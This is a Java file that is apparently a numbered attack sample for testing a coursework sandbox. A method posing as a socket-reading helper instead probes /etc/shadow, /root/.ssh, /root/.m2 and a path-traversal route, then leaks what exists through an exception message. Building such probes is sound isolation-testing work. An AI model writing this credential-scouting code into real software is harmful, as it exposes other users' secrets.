package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 16: reads other people's files.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        var found = new StringBuilder();
        for (var place : new String[]{"@CANARY@", "/etc/shadow", "/root/.ssh", "/root/.m2", "/home/student/../../root"}) {
            if (java.nio.file.Files.exists(java.nio.file.Path.of(place))) {
                found.append(place).append(' ');
            }
        }
        throw new IOException("found files: [" + found + "] home " + System.getProperty("user.home"));
    }
}
